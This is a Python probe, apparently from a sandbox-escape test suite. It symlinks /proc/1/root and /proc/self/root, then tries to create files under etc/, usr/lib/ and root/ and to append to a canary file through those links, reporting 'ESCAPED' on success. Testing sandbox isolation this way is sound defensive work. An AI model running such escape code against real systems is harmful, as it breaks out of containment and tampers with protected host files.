# attempts: symlink scratch/r -> /proc/1/root (and /proc/self/root), then create files in etc/, usr/lib/, root/ and append to the canary through it
# category: fs
import os

capped = {os.stat(".").st_dev}
if os.path.isdir("/tmp"):
    capped.add(os.stat("/tmp").st_dev)
errors, won = [], []
for name, dest in (("r1", "/proc/1/root"), ("r2", "/proc/self/root")):
    if os.path.lexists(name):
        os.unlink(name)
    os.symlink(dest, name)
    for rel, mode in (("etc/trutheye_escape", "w"), ("usr/lib/trutheye_escape", "w"),
                      ("root/trutheye_escape", "w"), ("tmp/trutheye-canary/canary.txt", "r+")):
        p = os.path.join(name, rel)
        try:
            with open(p, mode) as f:
                if mode == "r+" and "TRUTHEYE-CANARY" not in f.read():
                    continue
                f.write("written through a /proc/*/root symlink\n")
            if mode == "w":
                inside = os.stat(os.path.dirname(p)).st_dev in capped
                os.unlink(p)
                if inside:
                    continue
        except OSError as e:
            errors.append(e)
            continue
        won.append(p)
if won:
    print("ESCAPED: wrote through /proc/*/root symlinks: " + ", ".join(won))
else:
    raise errors[-1]
